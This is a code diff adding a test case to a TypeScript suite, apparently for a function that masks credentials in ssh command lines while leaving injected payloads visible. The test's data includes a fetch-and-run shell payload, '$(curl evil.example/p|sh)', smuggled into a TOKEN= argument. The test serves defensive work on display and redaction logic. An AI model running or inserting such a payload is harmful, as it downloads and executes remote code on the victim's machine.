@@ -96,3 +96,18 @@ describe("shownServerArgs: a payload beside a credential in a shell's command (r
     ]);
   });
 });
+
+// r50 F7: ssh's remote words `sh -c '<command>'`: a quoted command's own NAME=value ended at the
+// first blank, so the hidden span cut the payload (`<hidden> evil.example/p|sh)`). The value ends
+// where the shell running it ends the word; only its literal text is hidden.
+describe("shownServerArgs: a quoted command's own value with a payload (r50 F7)", () => {
+  const payload = "$(curl evil.example/p|sh)";
+  it.each([
+    // Several remote words are read as the one line ssh sends, each secret shown as hidden.
+    [["box", "sh", "-c", `'TOKEN=abc${payload} srv'`], "(hidden: may be a credential)"],
+    [["box", `sh -c 'TOKEN=abc${payload} srv'`], "${TOKEN}"],
+  ])("ssh %j shows the payload whole, abc as %j", (args, hidden) => {
+    const line = shown("ssh", args).slice(0, -1).join(" ");
+    expect(line).toBe(`box sh -c 'TOKEN=${hidden}${payload} srv'`);
+  });
+});
